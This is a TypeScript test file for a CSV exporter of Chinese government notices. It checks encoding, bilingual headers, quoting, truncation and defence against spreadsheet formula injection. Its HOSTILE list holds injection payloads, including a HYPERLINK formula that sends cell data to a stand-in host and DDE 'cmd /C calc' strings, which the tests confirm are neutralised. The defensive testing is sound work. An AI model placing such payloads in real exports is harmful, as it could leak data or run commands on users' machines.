import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, CSV_MAX_CELL } from '../../shared/export/csv.ts';
import { CSV_BOM, csvCell, formulaSafe } from '../../shared/export/csv-cell.ts';
import { exportNotices } from '../../shared/export/formats.ts';
import { fakeNotice } from '../support/fake-notice.ts';
import { readCsv } from '../support/read-csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＋cmd|' /C calc'!A0",
  '－1+1',
  '＝1+1',
  '＠SUM(A1)',
  '+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  '\u3000=1+1',
  '﹦1+1',
];

describe('CSV export', () => {
  const notices = [
    fakeNotice(),
    fakeNotice({
      id: 'q',
      title: '关于"揭榜挂帅",项目的通知\n（第二批）',
      matches: [],
      attachments: [],
    }),
    ...HOSTILE.map((title, i) => fakeNotice({ id: `h${i}`, title, publisher: title })),
  ];
  const csv = exportNotices('csv', notices);

  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '').includes('\n')).toBe(true); // only inside quoted fields
  });

  it('has Chinese + English headers a researcher expects', () => {
    const [header] = readCsv(csv.slice(1));
    expect(header).toEqual(CSV_COLUMNS.map(([h]) => h));
    for (const label of [
      '标题 title',
      '发布日期 publishedAt',
      '发文机构 publisher',
      '发文字号 documentNumber',
      '索引号 indexNumber',
      '栏目 column',
      '网址 URL',
      '匹配规则 matches',
      '正文 bodyText',
    ]) {
      expect(header).toContain(label);
    }
  });

  it('round-trips every field of a notice', () => {
    const [header, first, second] = readCsv(csv.slice(1));
    const field = (row: string[] | undefined, name: string) => row![header!.indexOf(name)];
    const n = fakeNotice();
    expect(field(first, '标题 title')).toBe(n.title);
    expect(field(first, '发布日期 publishedAt')).toBe('2021-12-06');
    expect(field(first, '发文机构 publisher')).toBe('科学技术部');
    expect(field(first, '发文字号 documentNumber')).toBe('国科发资〔2021〕1号');
    expect(field(first, '索引号 indexNumber')).toBe(n.indexNumber);
    expect(field(first, '栏目 column')).toBe('通知通告');
    expect(field(first, '站点 siteId')).toBe('most-tztg');
    expect(field(first, '网址 URL')).toBe(n.url);
    expect(field(first, '匹配规则 matches')).toBe('inspection');
    expect(field(first, '附件 attachments')).toBe(`整改台账.xlsx <${n.attachments[0]!.url}>`);
    expect(field(first, '正文 bodyText')).toBe(n.bodyText);
    expect(field(first, '编号 id')).toBe(n.id);
    expect(field(second, '标题 title')).toBe('关于"揭榜挂帅",项目的通知\n（第二批）');
  });

  it('never lets a cell start a formula', () => {
    const rows = readCsv(csv.slice(1)).slice(3);
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach((row, i) => {
      expect(row[0]).toBe(`'${HOSTILE[i]}`);
      expect(row[2]).toBe(`'${HOSTILE[i]}`);
      for (const cell of row) expect(cell.trimStart().normalize('NFKC')).not.toMatch(/^[=+\-@]/);
    });
  });

  it.each([
    ['plain text', '科技部通知', '科技部通知'],
    ['a date', '2021-12-06', '2021-12-06'],
    ['a minus inside', '2021-2025年规划', '2021-2025年规划'],
    ['an equals sign', '=1+1', "'=1+1"],
    ['a tab', '\tx', "'\tx"],
    ['full-width plus after spaces', '  ＋1', "'  ＋1"],
    ['empty', '', ''],
  ])('formulaSafe: %s', (_name, value, expected) => {
    expect(formulaSafe(value)).toBe(expected);
  });

  it.each([
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['a line break', 'a\r\nb', '"a\r\nb"'],
    ['a formula with a comma', '=SUM(A1,A2)', `"'=SUM(A1,A2)"`],
  ])('csvCell quotes %s', (_name, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('cuts a body longer than a spreadsheet cell, and says so', () => {
    const [header, row] = readCsv(
      exportNotices('csv', [fakeNotice({ bodyText: '字'.repeat(40_000) })]).slice(1),
    );
    const body = row![header!.indexOf('正文 bodyText')]!;
    expect(body.length).toBe(CSV_MAX_CELL);
    expect(body).toMatch(/截断 truncated\]$/);
  });
});
